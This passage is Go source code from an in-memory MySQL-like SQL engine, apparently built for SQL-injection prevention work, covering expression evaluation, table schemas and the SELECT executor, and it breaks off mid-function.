// boolean; no arm matching yields ELSE or NULL.
func (ev *evaluator) evalCase(x *sqlparser.CaseExpr, sc *scope) (Value, error) {
	var operand Value
	if x.Operand != nil {
		v, err := ev.eval(x.Operand, sc)
		if err != nil {
			return Value{}, err
		}
		operand = v
	}
	for _, w := range x.Whens {
		cond, err := ev.eval(w.Cond, sc)
		if err != nil {
			return Value{}, err
		}
		matched := false
		if x.Operand != nil {
			matched = Equal(operand, cond)
		} else {
			matched = !cond.IsNull() && cond.AsBool()
		}
		if matched {
			return ev.eval(w.Result, sc)
		}
	}
	if x.Else != nil {
		return ev.eval(x.Else, sc)
	}
	return Null(), nil
}

func formatColRef(c *sqlparser.ColumnRef) string {
	if c.Table != "" {
		return c.Table + "." + c.Name
	}
	return c.Name
}

func (ev *evaluator) subqueryRows(sel *sqlparser.SelectStmt, sc *scope) ([][]Value, error) {
	res, err := ev.db.execSelect(sel, sc)
	if err != nil {
		return nil, err
	}
	return res.Rows, nil
}

func (ev *evaluator) evalBinary(x *sqlparser.BinaryExpr, sc *scope) (Value, error) {
	switch x.Op {
	case "AND", "OR", "XOR":
		return ev.evalLogical(x, sc)
	}
	left, err := ev.eval(x.Left, sc)
	if err != nil {
		return Value{}, err
	}
	right, err := ev.eval(x.Right, sc)
	if err != nil {
		return Value{}, err
	}
	switch x.Op {
	case "=", "<>", "<", "<=", ">", ">=":
		cmp, ok := Compare(left, right)
		if !ok {
			return Null(), nil
		}
		var res bool
		switch x.Op {
		case "=":
			res = cmp == 0
		case "<>":
			res = cmp != 0
		case "<":
			res = cmp < 0
		case "<=":
			res = cmp <= 0
		case ">":
			res = cmp > 0
		case ">=":
			res = cmp >= 0
		}
		return Bool(res), nil
	case "LIKE":
		if left.IsNull() || right.IsNull() {
			return Null(), nil
		}
		return Bool(matchLike(left.String(), right.String())), nil
	case "+", "-", "*", "/", "%":
		if left.IsNull() || right.IsNull() {
			return Null(), nil
		}
		return arith(x.Op, left, right)
	default:
		return Value{}, fmt.Errorf("unsupported operator %q", x.Op)
	}
}

// arith implements MySQL-ish numeric operators: integer math stays
// integral except for '/', which always yields a float.
func arith(op string, a, b Value) (Value, error) {
	bothInt := a.Kind == KindInt && b.Kind == KindInt
	switch op {
	case "+":
		if bothInt {
			return Int(a.I + b.I), nil
		}
		return Float(a.AsFloat() + b.AsFloat()), nil
	case "-":
		if bothInt {
			return Int(a.I - b.I), nil
		}
		return Float(a.AsFloat() - b.AsFloat()), nil
	case "*":
		if bothInt {
			return Int(a.I * b.I), nil
		}
		return Float(a.AsFloat() * b.AsFloat()), nil
	case "/":
		d := b.AsFloat()
		if d == 0 {
			return Null(), nil // MySQL: division by zero yields NULL
		}
		return Float(a.AsFloat() / d), nil
	case "%":
		d := b.AsInt()
		if d == 0 {
			return Null(), nil
		}
		return Int(a.AsInt() % d), nil
	default:
		return Value{}, fmt.Errorf("unsupported arithmetic %q", op)
	}
}

// evalLogical implements three-valued AND/OR/XOR.
func (ev *evaluator) evalLogical(x *sqlparser.BinaryExpr, sc *scope) (Value, error) {
	left, err := ev.eval(x.Left, sc)
	if err != nil {
		return Value{}, err
	}
	switch x.Op {
	case "AND":
		if !left.IsNull() && !left.AsBool() {
			return Bool(false), nil
		}
		right, err := ev.eval(x.Right, sc)
		if err != nil {
			return Value{}, err
		}
		if !right.IsNull() && !right.AsBool() {
			return Bool(false), nil
		}
		if left.IsNull() || right.IsNull() {
			return Null(), nil
		}
		return Bool(true), nil
	case "OR":
		if !left.IsNull() && left.AsBool() {
			return Bool(true), nil
		}
		right, err := ev.eval(x.Right, sc)
		if err != nil {
			return Value{}, err
		}
		if !right.IsNull() && right.AsBool() {
			return Bool(true), nil
		}
		if left.IsNull() || right.IsNull() {
			return Null(), nil
		}
		return Bool(false), nil
	case "XOR":
		right, err := ev.eval(x.Right, sc)
		if err != nil {
			return Value{}, err
		}
		if left.IsNull() || right.IsNull() {
			return Null(), nil
		}
		return Bool(left.AsBool() != right.AsBool()), nil
	default:
		return Value{}, fmt.Errorf("unsupported logical operator %q", x.Op)
	}
}

func (ev *evaluator) evalUnary(x *sqlparser.UnaryExpr, sc *scope) (Value, error) {
	v, err := ev.eval(x.Operand, sc)
	if err != nil {
		return Value{}, err
	}
	switch x.Op {
	case "NOT":
		if v.IsNull() {
			return Null(), nil
		}
		return Bool(!v.AsBool()), nil
	case "-":
		if v.IsNull() {
			return Null(), nil
		}
		if v.Kind == KindInt {
			return Int(-v.I), nil
		}
		return Float(-v.AsFloat()), nil
	default:
		return Value{}, fmt.Errorf("unsupported unary operator %q", x.Op)
	}
}

func (ev *evaluator) evalIn(x *sqlparser.InExpr, sc *scope) (Value, error) {
	left, err := ev.eval(x.Left, sc)
	if err != nil {
		return Value{}, err
	}
	if left.IsNull() {
		return Null(), nil
	}
	var candidates []Value
	if x.Subquery != nil {
		rows, err := ev.subqueryRows(x.Subquery, sc)
		if err != nil {
			return Value{}, err
		}
		candidates = make([]Value, 0, len(rows))
		for _, r := range rows {
			if len(r) != 1 {
				return Value{}, fmt.Errorf("IN subquery returned %d columns", len(r))
			}
			candidates = append(candidates, r[0])
		}
	} else {
		candidates = make([]Value, 0, len(x.List))
		for _, e := range x.List {
			v, err := ev.eval(e, sc)
			if err != nil {
				return Value{}, err
			}
			candidates = append(candidates, v)
		}
	}
	sawNull := false
	for _, c := range candidates {
		if c.IsNull() {
			sawNull = true
			continue
		}
		if Equal(left, c) {
			return Bool(!x.Not), nil
		}
	}
	if sawNull {
		return Null(), nil
	}
	return Bool(x.Not), nil
}

func (ev *evaluator) evalBetween(x *sqlparser.BetweenExpr, sc *scope) (Value, error) {
	v, err := ev.eval(x.Expr, sc)
	if err != nil {
		return Value{}, err
	}
	low, err := ev.eval(x.Low, sc)
	if err != nil {
		return Value{}, err
	}
	high, err := ev.eval(x.High, sc)
	if err != nil {
		return Value{}, err
	}
	c1, ok1 := Compare(v, low)
	c2, ok2 := Compare(v, high)
	if !ok1 || !ok2 {
		return Null(), nil
	}
	in := c1 >= 0 && c2 <= 0
	if x.Not {
		in = !in
	}
	return Bool(in), nil
}

// matchLike implements SQL LIKE with % and _ wildcards, case-insensitive
// (MySQL's default collation).
func matchLike(s, pattern string) bool {
	return likeMatch(strings.ToLower(s), strings.ToLower(pattern))
}

func likeMatch(s, p string) bool {
	// Iterative two-pointer match with backtracking on '%'.
	var si, pi int
	star, sBack := -1, 0
	for si < len(s) {
		switch {
		case pi < len(p) && p[pi] == '\\' && pi+1 < len(p) && (p[pi+1] == '%' || p[pi+1] == '_'):
			if s[si] == p[pi+1] {
				si++
				pi += 2
				continue
			}
			if star < 0 {
				return false
			}
			pi = star + 1
			sBack++
			si = sBack
		case pi < len(p) && (p[pi] == '_' || p[pi] == s[si]):
			si++
			pi++
		case pi < len(p) && p[pi] == '%':
			star = pi
			sBack = si
			pi++
		case star >= 0:
			pi = star + 1
			sBack++
			si = sBack
		default:
			return false
		}
	}
	for pi < len(p) && p[pi] == '%' {
		pi++
	}
	return pi == len(p)
}

// evalFunc dispatches scalar functions. Aggregates are handled by the
// grouping executor and reaching one here is an error.
func (ev *evaluator) evalFunc(x *sqlparser.FuncCall, sc *scope) (Value, error) {
	if isAggregateName(x.Name) {
		return Value{}, fmt.Errorf("aggregate %s used outside grouping context", x.Name)
	}
	args := make([]Value, 0, len(x.Args))
	for _, a := range x.Args {
		v, err := ev.eval(a, sc)
		if err != nil {
			return Value{}, err
		}
		args = append(args, v)
	}
	return ev.callScalar(x.Name, args)
}

func (ev *evaluator) callScalar(name string, args []Value) (Value, error) {
	argn := func(n int) error {
		if len(args) != n {
			return fmt.Errorf("%s expects %d arguments, got %d", name, n, len(args))
		}
		return nil
	}
	switch name {
	case "CONCAT":
		var b strings.Builder
		for _, a := range args {
			if a.IsNull() {
				return Null(), nil
			}
			b.WriteString(a.String())
		}
		return Str(b.String()), nil
	case "CONCAT_WS":
		if len(args) < 1 {
			return Value{}, fmt.Errorf("CONCAT_WS expects a separator")
		}
		sep := args[0].String()
		parts := make([]string, 0, len(args)-1)
		for _, a := range args[1:] {
			if a.IsNull() {
				continue
			}
			parts = append(parts, a.String())
		}
		return Str(strings.Join(parts, sep)), nil
	case "LOWER", "LCASE":
		if err := argn(1); err != nil {
			return Value{}, err
		}
		if args[0].IsNull() {
			return Null(), nil
		}
		return Str(strings.ToLower(args[0].String())), nil
	case "UPPER", "UCASE":
		if err := argn(1); err != nil {
			return Value{}, err
		}
		if args[0].IsNull() {
			return Null(), nil
		}
		return Str(strings.ToUpper(args[0].String())), nil
	case "LENGTH", "CHAR_LENGTH":
		if err := argn(1); err != nil {
			return Value{}, err
		}
		if args[0].IsNull() {
			return Null(), nil
		}
		return Int(int64(len(args[0].String()))), nil
	case "TRIM":
		if err := argn(1); err != nil {
			return Value{}, err
		}
		return Str(strings.TrimSpace(args[0].String())), nil
	case "LTRIM":
		if err := argn(1); err != nil {
			return Value{}, err
		}
		return Str(strings.TrimLeft(args[0].String(), " ")), nil
	case "RTRIM":
		if err := argn(1); err != nil {
			return Value{}, err
		}
		return Str(strings.TrimRight(args[0].String(), " ")), nil
	case "REPLACE":
		if err := argn(3); err != nil {
			return Value{}, err
		}
		return Str(strings.ReplaceAll(args[0].String(), args[1].String(), args[2].String())), nil
	case "SUBSTRING", "SUBSTR":
		if len(args) != 2 && len(args) != 3 {
			return Value{}, fmt.Errorf("SUBSTRING expects 2 or 3 arguments")
		}
		s := args[0].String()
		start := int(args[1].AsInt())
		if start < 0 {
			start = len(s) + start + 1
		}
		if start < 1 {
			start = 1
		}
		if start > len(s) {
			return Str(""), nil
		}
		out := s[start-1:]
		if len(args) == 3 {
			n := int(args[2].AsInt())
			if n < 0 {
				n = 0
			}
			if n < len(out) {
				out = out[:n]
			}
		}
		return Str(out), nil
	case "LEFT":
		if err := argn(2); err != nil {
			return Value{}, err
		}
		s := args[0].String()
		n := int(args[1].AsInt())
		if n < 0 {
			n = 0
		}
		if n > len(s) {
			n = len(s)
		}
		return Str(s[:n]), nil
	case "RIGHT":
		if err := argn(2); err != nil {
			return Value{}, err
		}
		s := args[0].String()
		n := int(args[1].AsInt())
		if n < 0 {
			n = 0
		}
		if n > len(s) {
			n = len(s)
		}
		return Str(s[len(s)-n:]), nil
	case "ABS":
		if err := argn(1); err != nil {
			return Value{}, err
		}
		if args[0].Kind == KindInt {
			if args[0].I < 0 {
				return Int(-args[0].I), nil
			}
			return args[0], nil
		}
		return Float(math.Abs(args[0].AsFloat())), nil
	case "ROUND":
		if len(args) != 1 && len(args) != 2 {
			return Value{}, fmt.Errorf("ROUND expects 1 or 2 arguments")
		}
		digits := 0
		if len(args) == 2 {
			digits = int(args[1].AsInt())
		}
		mult := math.Pow(10, float64(digits))
		return Float(math.Round(args[0].AsFloat()*mult) / mult), nil
	case "FLOOR":
		if err := argn(1); err != nil {
			return Value{}, err
		}
		return Int(int64(math.Floor(args[0].AsFloat()))), nil
	case "CEIL", "CEILING":
		if err := argn(1); err != nil {
			return Value{}, err
		}
		return Int(int64(math.Ceil(args[0].AsFloat()))), nil
	case "MOD":
		if err := argn(2); err != nil {
			return Value{}, err
		}
		return arith("%", args[0], args[1])
	case "IF":
		if err := argn(3); err != nil {
			return Value{}, err
		}
		if !args[0].IsNull() && args[0].AsBool() {
			return args[1], nil
		}
		return args[2], nil
	case "IFNULL":
		if err := argn(2); err != nil {
			return Value{}, err
		}
		if args[0].IsNull() {
			return args[1], nil
		}
		return args[0], nil
	case "NULLIF":
		if err := argn(2); err != nil {
			return Value{}, err
		}
		if Equal(args[0], args[1]) {
			return Null(), nil
		}
		return args[0], nil
	case "COALESCE":
		for _, a := range args {
			if !a.IsNull() {
				return a, nil
			}
		}
		return Null(), nil
	case "GREATEST":
		return extremum(args, 1)
	case "LEAST":
		return extremum(args, -1)
	case "MD5":
		if err := argn(1); err != nil {
			return Value{}, err
		}
		sum := md5.Sum([]byte(args[0].String()))
		return Str(hex.EncodeToString(sum[:])), nil
	case "SHA1":
		if err := argn(1); err != nil {
			return Value{}, err
		}
		sum := sha1.Sum([]byte(args[0].String()))
		return Str(hex.EncodeToString(sum[:])), nil
	case "HEX":
		if err := argn(1); err != nil {
			return Value{}, err
		}
		return Str(strings.ToUpper(hex.EncodeToString([]byte(args[0].String())))), nil
	case "NOW", "CURRENT_TIMESTAMP":
		return Str(ev.db.clock().UTC().Format("2006-01-02 15:04:05")), nil
	case "CURDATE", "CURRENT_DATE":
		return Str(ev.db.clock().UTC().Format("2006-01-02")), nil
	case "VERSION":
		return Str("5.7.0-septic"), nil
	case "DATABASE":
		return Str("app"), nil
	case "USER", "CURRENT_USER":
		return Str("app@localhost"), nil
	default:
		return Value{}, fmt.Errorf("unknown function %s", name)
	}
}

func extremum(args []Value, dir int) (Value, error) {
	if len(args) == 0 {
		return Value{}, fmt.Errorf("GREATEST/LEAST need at least one argument")
	}
	best := args[0]
	for _, a := range args[1:] {
		if a.IsNull() || best.IsNull() {
			return Null(), nil
		}
		if c, ok := Compare(a, best); ok && c*dir > 0 {
			best = a
		}
	}
	return best, nil
}

// isAggregateName reports whether the function is an aggregate.
func isAggregateName(name string) bool {
	switch name {
	case "COUNT", "SUM", "AVG", "MIN", "MAX", "GROUP_CONCAT":
		return true
	default:
		return false
	}
}
