package engine

import (
	"errors"
	"fmt"
	"strings"
	"sync"

	"github.com/septic-db/septic/internal/sqlparser"
)

// Sentinel errors returned by the engine.
var (
	// ErrQueryBlocked is returned when the registered QueryHook drops a
	// query (SEPTIC prevention mode). Callers distinguish a blocked query
	// from a failed one with errors.Is.
	ErrQueryBlocked = errors.New("query blocked by security hook")
	// ErrNoSuchTable is returned for references to unknown tables.
	ErrNoSuchTable = errors.New("no such table")
	// ErrNoSuchColumn is returned for references to unknown columns.
	ErrNoSuchColumn = errors.New("no such column")
	// ErrDuplicate is returned on UNIQUE/PRIMARY KEY violations.
	ErrDuplicate = errors.New("duplicate entry")
	// ErrTableExists is returned by CREATE TABLE without IF NOT EXISTS.
	ErrTableExists = errors.New("table already exists")
)

// ColType is a column's declared type.
type ColType int

// Column types. DATETIME values are stored as strings in canonical
// "2006-01-02 15:04:05" form.
const (
	ColInvalid ColType = iota
	ColInt
	ColFloat
	ColText
	ColBool
	ColDatetime
)

// String names the column type as DESCRIBE would print it.
func (t ColType) String() string {
	switch t {
	case ColInt:
		return "INT"
	case ColFloat:
		return "FLOAT"
	case ColText:
		return "TEXT"
	case ColBool:
		return "BOOL"
	case ColDatetime:
		return "DATETIME"
	default:
		return fmt.Sprintf("ColType(%d)", int(t))
	}
}

func colTypeFromName(name string) (ColType, error) {
	switch name {
	case "INT":
		return ColInt, nil
	case "FLOAT":
		return ColFloat, nil
	case "TEXT":
		return ColText, nil
	case "BOOL":
		return ColBool, nil
	case "DATETIME":
		return ColDatetime, nil
	default:
		return ColInvalid, fmt.Errorf("unknown column type %q", name)
	}
}

// Column is one column definition of a table.
type Column struct {
	Name          string
	Type          ColType
	PrimaryKey    bool
	AutoIncrement bool
	Unique        bool
	NotNull       bool
	Default       *Value
}

// Table is an in-memory table: a schema plus a row store. The schema
// (Name, Columns) is immutable after CREATE TABLE; rows, indexes and the
// AUTO_INCREMENT counter are guarded by the table's own lock, acquired
// per statement by the engine's lock plan (lockplan.go) — so statements
// touching different tables run fully in parallel.
type Table struct {
	Name    string
	Columns []Column

	// mu guards Rows, nextAuto and indexes. DML takes it exclusively,
	// reads share it; acquisition order across tables is by sorted name.
	mu   sync.RWMutex
	Rows [][]Value
	// nextAuto is the next AUTO_INCREMENT value to hand out.
	nextAuto int64
	// indexes holds the unique hash indexes, keyed by column position.
	// Maintained under the table write lock; see index.go.
	indexes map[int]map[string]int
}

// colIndex returns the index of the named column (case-insensitive,
// matching MySQL's default collation for identifiers), or -1.
func (t *Table) colIndex(name string) int {
	for i, c := range t.Columns {
		if strings.EqualFold(c.Name, name) {
			return i
		}
	}
	return -1
}

// coerce converts v to the column's declared type, mirroring MySQL's
// implicit conversion on store.
func (c *Column) coerce(v Value) (Value, error) {
	if v.IsNull() {
		if c.NotNull {
			return Value{}, fmt.Errorf("column %q cannot be null", c.Name)
		}
		return v, nil
	}
	switch c.Type {
	case ColInt:
		return Int(v.AsInt()), nil
	case ColFloat:
		return Float(v.AsFloat()), nil
	case ColText, ColDatetime:
		return Str(v.String()), nil
	case ColBool:
		return Bool(v.AsBool()), nil
	default:
		return Value{}, fmt.Errorf("column %q has invalid type", c.Name)
	}
}

func newTable(stmt *sqlparser.CreateTableStmt) (*Table, error) {
	t := &Table{Name: stmt.Table, nextAuto: 1}
	seen := make(map[string]bool, len(stmt.Columns))
	for _, def := range stmt.Columns {
		key := strings.ToLower(def.Name)
		if seen[key] {
			return nil, fmt.Errorf("duplicate column %q", def.Name)
		}
		seen[key] = true
		typ, err := colTypeFromName(def.Type)
		if err != nil {
			return nil, err
		}
		col := Column{
			Name:          def.Name,
			Type:          typ,
			PrimaryKey:    def.PrimaryKey,
			AutoIncrement: def.AutoIncrement,
			Unique:        def.Unique || def.PrimaryKey,
			NotNull:       def.NotNull || def.PrimaryKey,
		}
		if def.Default != nil {
			lit, ok := def.Default.(*sqlparser.Literal)
			if !ok {
				return nil, fmt.Errorf("column %q: DEFAULT must be a literal", def.Name)
			}
			v := literalValue(lit)
			cv, err := col.coerce(v)
			if err != nil {
				return nil, err
			}
			col.Default = &cv
		}
		t.Columns = append(t.Columns, col)
	}
	if len(t.Columns) == 0 {
		return nil, errors.New("table must have at least one column")
	}
	t.rebuildIndexes()
	return t, nil
}

// literalValue converts a parsed literal to a runtime value.
func literalValue(l *sqlparser.Literal) Value {
	switch l.Kind {
	case sqlparser.LiteralInt:
		return Int(l.Int)
	case sqlparser.LiteralFloat:
		return Float(l.Float)
	case sqlparser.LiteralString:
		return Str(l.Str)
	case sqlparser.LiteralBool:
		return Bool(l.Bool)
	default:
		return Null()
	}
}
