package engine

import (
	"fmt"
	"sort"
	"strings"

	"github.com/septic-db/septic/internal/sqlparser"
)

// execSelect runs a SELECT under the caller-held read lock. parent is the
// enclosing scope for correlated subqueries (nil at top level).
func (db *DB) execSelect(s *sqlparser.SelectStmt, parent *scope) (*Result, error) {
	res, err := db.execSelectBranch(s, parent)
	if err != nil {
		return nil, err
	}
	// UNION chain: evaluate each branch and merge.
	for u := s.Union; u != nil; u = u.Next.Union {
		branch, err := db.execSelectBranch(u.Next, parent)
		if err != nil {
			return nil, err
		}
		if len(branch.Columns) != len(res.Columns) {
			return nil, fmt.Errorf("UNION branches have %d and %d columns",
				len(res.Columns), len(branch.Columns))
		}
		res.Rows = append(res.Rows, branch.Rows...)
		if !u.All {
			res.Rows = dedupeRows(res.Rows)
		}
	}
	return res, nil
}

// execSelectBranch runs one SELECT without its UNION tail.
func (db *DB) execSelectBranch(s *sqlparser.SelectStmt, parent *scope) (*Result, error) {
	ev := &evaluator{db: db}

	// Point-lookup fast path: a unique-indexed equality resolves the row
	// set without scanning, and fully consumes the WHERE clause.
	if t, rows, ok := db.pointLookup(s); ok && !hasAggregates(s) {
		sc := newScope(parent)
		name := s.From[0].Alias
		if name == "" {
			name = s.From[0].Name
		}
		cols := make([]string, len(t.Columns))
		for i, c := range t.Columns {
			cols[i] = c.Name
		}
		sc.addSource(name, cols)
		return db.projectRows(s, &rowSource{scope: sc, rows: rows}, rows, ev)
	}

	src, err := db.buildRowSource(s.From, parent, ev)
	if err != nil {
		return nil, err
	}

	// WHERE filter.
	filtered := src.rows
	if s.Where != nil {
		filtered = filtered[:0:0]
		for _, row := range src.rows {
			src.scope.row = row
			v, err := ev.eval(s.Where, src.scope)
			if err != nil {
				return nil, err
			}
			if !v.IsNull() && v.AsBool() {
				filtered = append(filtered, row)
			}
		}
	}

	if hasAggregates(s) {
		return db.execAggregate(s, src.scope, filtered, ev)
	}
	return db.projectRows(s, src, filtered, ev)
}

// projectRows runs the post-WHERE pipeline: projection, DISTINCT,
// ORDER BY and LIMIT.
func (db *DB) projectRows(s *sqlparser.SelectStmt, src *rowSource, filtered [][]Value, ev *evaluator) (*Result, error) {
	cols := projectionNames(s.Fields, src.scope)
	out := make([][]Value, 0, len(filtered))
	keys := make([][]Value, 0, len(filtered))
	for _, row := range filtered {
		src.scope.row = row
		projected, err := projectRow(s.Fields, src.scope, ev)
		if err != nil {
			return nil, err
		}
		out = append(out, projected)
		if len(s.OrderBy) > 0 {
			k, err := orderKeys(s.OrderBy, s.Fields, projected, src.scope, ev)
			if err != nil {
				return nil, err
			}
			keys = append(keys, k)
		}
	}
	if s.Distinct {
		out, keys = dedupeWithKeys(out, keys)
	}
	if len(s.OrderBy) > 0 {
		sortRows(out, keys, s.OrderBy)
	}
	out, err := applyLimit(out, s.Limit, ev)
	if err != nil {
		return nil, err
	}
	return &Result{Columns: cols, Rows: out}, nil
}

// rowSource is the joined FROM product with its column scope.
type rowSource struct {
	scope *scope
	rows  [][]Value
}

// buildRowSource materializes the FROM clause: cross/inner/left joins of
// tables and derived tables.
func (db *DB) buildRowSource(from []sqlparser.TableRef, parent *scope, ev *evaluator) (*rowSource, error) {
	sc := newScope(parent)
	if len(from) == 0 {
		// SELECT without FROM: one empty row.
		return &rowSource{scope: sc, rows: [][]Value{{}}}, nil
	}
	var rows [][]Value
	for i, ref := range from {
		name, cols, tblRows, err := db.resolveTableRef(ref, parent)
		if err != nil {
			return nil, err
		}
		sc.addSource(name, cols)
		if i == 0 {
			rows = tblRows
			continue
		}
		joined := make([][]Value, 0, len(rows))
		width := len(cols)
		for _, left := range rows {
			matched := false
			for _, right := range tblRows {
				combined := make([]Value, 0, len(left)+width)
				combined = append(combined, left...)
				combined = append(combined, right...)
				if ref.On != nil {
					sc.row = combined
					v, err := ev.eval(ref.On, sc)
					if err != nil {
						return nil, err
					}
					if v.IsNull() || !v.AsBool() {
						continue
					}
				}
				matched = true
				joined = append(joined, combined)
			}
			if !matched && ref.Join == "LEFT" {
				combined := make([]Value, 0, len(left)+width)
				combined = append(combined, left...)
				for j := 0; j < width; j++ {
					combined = append(combined, Null())
				}
				joined = append(joined, combined)
			}
		}
		rows = joined
	}
	return &rowSource{scope: sc, rows: rows}, nil
}

// resolveTableRef returns the scope name, column names and rows of one
// FROM entry.
func (db *DB) resolveTableRef(ref sqlparser.TableRef, parent *scope) (string, []string, [][]Value, error) {
	if ref.Subquery != nil {
		res, err := db.execSelect(ref.Subquery, parent)
		if err != nil {
			return "", nil, nil, err
		}
		name := ref.Alias
		if name == "" {
			name = "derived"
		}
		return name, res.Columns, res.Rows, nil
	}
	t := db.tables[strings.ToLower(ref.Name)]
	if t == nil {
		return "", nil, nil, fmt.Errorf("%w: %s", ErrNoSuchTable, ref.Name)
	}
	name := ref.Alias
	if name == "" {
		name = ref.Name
	}
	cols := make([]string, len(t.Columns))
	for i, c := range t.Columns {
		cols[i] = c.Name
	}
	// Copy row headers so executor-side sorting never aliases table data.
	rows := make([][]Value, len(t.Rows))
	copy(rows, t.Rows)
	return name, cols, rows, nil
}

// projectionNames computes the result column names.
func projectionNames(fields []sqlparser.SelectField, sc *scope) []string {
	var names []string
	for _, f := range fields {
		switch {
		case f.Star:
			for ti := range sc.tables {
				names = append(names, sc.colNames[ti]...)
			}
		case f.TableStar != "":
			for ti, t := range sc.tables {
				if strings.EqualFold(t, f.TableStar) {
					names = append(names, sc.colNames[ti]...)
				}
			}
		case f.Alias != "":
			names = append(names, f.Alias)
		default:
			if col, ok := f.Expr.(*sqlparser.ColumnRef); ok {
				names = append(names, col.Name)
			} else {
				names = append(names, sqlparser.Format(&sqlparser.SelectStmt{
					Fields: []sqlparser.SelectField{{Expr: f.Expr}},
				})[len("SELECT "):])
			}
		}
	}
	return names
}

// projectRow evaluates the SELECT list against the scope's current row.
func projectRow(fields []sqlparser.SelectField, sc *scope, ev *evaluator) ([]Value, error) {
	var out []Value
	for _, f := range fields {
		switch {
		case f.Star:
			out = append(out, sc.row...)
		case f.TableStar != "":
			for ti, t := range sc.tables {
				if strings.EqualFold(t, f.TableStar) {
					start := sc.offsets[ti]
					out = append(out, sc.row[start:start+len(sc.colNames[ti])]...)
				}
			}
		default:
			v, err := ev.eval(f.Expr, sc)
			if err != nil {
				return nil, err
			}
			out = append(out, v)
		}
	}
	return out, nil
}

// orderKeys computes the sort key values for one row. ORDER BY may use an
// ordinal (column position, a classic injection surface: "ORDER BY 5"),
// an output alias, or any expression over the source row.
func orderKeys(orderBy []sqlparser.OrderItem, fields []sqlparser.SelectField,
	projected []Value, sc *scope, ev *evaluator) ([]Value, error) {
	keys := make([]Value, 0, len(orderBy))
	for _, o := range orderBy {
		if lit, ok := o.Expr.(*sqlparser.Literal); ok && lit.Kind == sqlparser.LiteralInt {
			idx := int(lit.Int)
			if idx < 1 || idx > len(projected) {
				return nil, fmt.Errorf("ORDER BY position %d out of range", idx)
			}
			keys = append(keys, projected[idx-1])
			continue
		}
		if col, ok := o.Expr.(*sqlparser.ColumnRef); ok && col.Table == "" {
			if idx := aliasIndex(fields, col.Name); idx >= 0 && idx < len(projected) {
				keys = append(keys, projected[idx])
				continue
			}
		}
		v, err := ev.eval(o.Expr, sc)
		if err != nil {
			return nil, err
		}
		keys = append(keys, v)
	}
	return keys, nil
}

func aliasIndex(fields []sqlparser.SelectField, name string) int {
	for i, f := range fields {
		if f.Alias != "" && strings.EqualFold(f.Alias, name) {
			return i
		}
	}
	return -1
}

// sortRows sorts out by keys under the ORDER BY directions (stable, so
// ties preserve insertion order like MySQL's filesort on equal keys).
func sortRows(out [][]Value, keys [][]Value, orderBy []sqlparser.OrderItem) {
	idx := make([]int, len(out))
	for i := range idx {
		idx[i] = i
	}
	sort.SliceStable(idx, func(a, b int) bool {
		ka, kb := keys[idx[a]], keys[idx[b]]
		for i := range orderBy {
			va, vb := ka[i], kb[i]
			// NULLs sort first ascending, last descending (MySQL).
			switch {
			case va.IsNull() && vb.IsNull():
				continue
			case va.IsNull():
				return !orderBy[i].Desc
			case vb.IsNull():
				return orderBy[i].Desc
			}
			c, _ := Compare(va, vb)
			if c == 0 {
				continue
			}
			if orderBy[i].Desc {
				return c > 0
			}
			return c < 0
		}
		return false
	})
	sortedOut := make([][]Value, len(out))
	for i, j := range idx {
		sortedOut[i] = out[j]
	}
	copy(out, sortedOut)
}

// applyLimit slices out according to LIMIT/OFFSET.
func applyLimit(rows [][]Value, limit *sqlparser.Limit, ev *evaluator) ([][]Value, error) {
	if limit == nil {
		return rows, nil
	}
	offset := 0
	if limit.Offset != nil {
		v, err := ev.eval(limit.Offset, newScope(nil))
		if err != nil {
			return nil, err
		}
		offset = int(v.AsInt())
	}
	count, err := ev.eval(limit.Count, newScope(nil))
	if err != nil {
		return nil, err
	}
	n := int(count.AsInt())
	if offset < 0 {
		offset = 0
	}
	if offset >= len(rows) {
		return nil, nil
	}
	rows = rows[offset:]
	if n >= 0 && n < len(rows) {
		rows = rows[:n]
	}
	return rows, nil
}

// dedupeRows removes duplicate rows, keeping first occurrences.
func dedupeRows(rows [][]Value) [][]Value {
	out, _ := dedupeWithKeys(rows, nil)
	return out
}

func dedupeWithKeys(rows [][]Value, keys [][]Value) ([][]Value, [][]Value) {
	seen := make(map[string]bool, len(rows))
	outRows := rows[:0:0]
	var outKeys [][]Value
	if keys != nil {
		outKeys = keys[:0:0]
	}
	for i, r := range rows {
		var b strings.Builder
		for _, v := range r {
			b.WriteString(fmt.Sprintf("%d:%s\x00", v.Kind, v.String()))
		}
		sig := b.String()
		if seen[sig] {
			continue
		}
		seen[sig] = true
		outRows = append(outRows, r)
		if keys != nil {
			outKeys = append(outKeys, keys[i])
		}
	}
	return outRows, outKeys
}

// hasAggregates reports whether the SELECT needs the grouping executor.
func hasAggregates(s *sqlparser.SelectStmt) bool {
	if len(s.GroupBy) > 0 || s.Having != nil {
		return true
	}
	found := false
	var walkExpr func(e sqlparser.Expr)
	walkExpr = func(e sqlparser.Expr) {
		switch x := e.(type) {
		case *sqlparser.FuncCall:
			if isAggregateName(x.Name) {
				found = true
			}
			for _, a := range x.Args {
				walkExpr(a)
			}
		case *sqlparser.BinaryExpr:
			walkExpr(x.Left)
			walkExpr(x.Right)
		case *sqlparser.UnaryExpr:
			walkExpr(x.Operand)
		}
	}
	for _, f := range s.Fields {
		if f.Expr != nil {
			walkExpr(f.Expr)
		}
	}
	return found
}

// execAggregate implements GROUP BY / aggregate projection.
func (db *DB) execAggregate(s *sqlparser.SelectStmt, sc *scope, rows [][]Value, ev *evaluator) (*Result, error) {
	type group struct {
		key  string
		rows [][]Value
	}
	var groups []*group
	index := make(map[string]*group)
	if len(s.GroupBy) == 0 {
		g := &group{key: ""}
		g.rows = rows
		groups = append(groups, g)
	} else {
		for _, row := range rows {
			sc.row = row
			var b strings.Builder
			for _, e := range s.GroupBy {
				v, err := ev.eval(e, sc)
				if err != nil {
					return nil, err
				}
				b.WriteString(fmt.Sprintf("%d:%s\x00", v.Kind, v.String()))
			}
			key := b.String()
			g, ok := index[key]
			if !ok {
				g = &group{key: key}
				index[key] = g
				groups = append(groups, g)
			}
			g.rows = append(g.rows, row)
		}
	}

	agg := &aggregator{db: db, ev: ev, sc: sc}
	cols := projectionNames(s.Fields, sc)
	out := make([][]Value, 0, len(groups))
	keys := make([][]Value, 0, len(groups))
	for _, g := range groups {
		// An empty ungrouped aggregate still yields one row (COUNT(*)=0).
		if len(g.rows) == 0 && len(s.GroupBy) > 0 {
			continue
		}
		if s.Having != nil {
			v, err := agg.eval(s.Having, g.rows)
			if err != nil {
				return nil, err
			}
			if v.IsNull() || !v.AsBool() {
				continue
			}
		}
		projected := make([]Value, 0, len(s.Fields))
		for _, f := range s.Fields {
			if f.Star || f.TableStar != "" {
				return nil, fmt.Errorf("cannot mix * with aggregates")
			}
